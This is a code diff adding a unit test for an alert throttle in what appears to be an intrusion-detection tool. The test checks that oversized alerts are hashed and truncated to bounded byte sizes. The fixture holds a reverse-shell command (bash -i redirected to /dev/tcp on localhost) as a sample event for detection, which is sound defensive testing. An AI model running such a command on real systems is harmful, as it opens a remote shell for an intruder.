@@ -74,4 +74,20 @@ describe('AlertThrottle', () => {
     expect(throttle.stats().tracked).toBe(2);
     expect(throttle.drain().map((s) => s.suppressed)).toEqual([1]);
   });
+
+  it('holds kinds in bounded bytes: a hashed identity and a shortened first alert', async () => {
+    const { alertIdentity } = await import('../../src/alerts/index.js');
+    now = 0;
+    const pad = 'x'.repeat(120_000);
+    const [match] = set.evaluate(execEvent({ name: 'setsid', pid: 9, args: ['setsid', 'bash', '-c', `bash -i >& /dev/tcp/127.0.0.1/9 0>&1 #${pad}`] }));
+    const big = buildAlert(match!, clock);
+    expect(alertIdentity(big).length).toBeLessThan(64);
+    const throttle = new AlertThrottle(clock, { windowMs: 1_000, keptAlertBytes: 8_192 });
+    expect(throttle.offer(big)).toBe(big); // what goes out is whole
+    throttle.offer(big);
+    now = 2_000;
+    const [summary] = throttle.drain();
+    expect(Buffer.byteLength(JSON.stringify(summary!.first))).toBeLessThanOrEqual(8_192);
+    expect(summary!.first.rule.id).toBe(big.rule.id);
+  });
 });
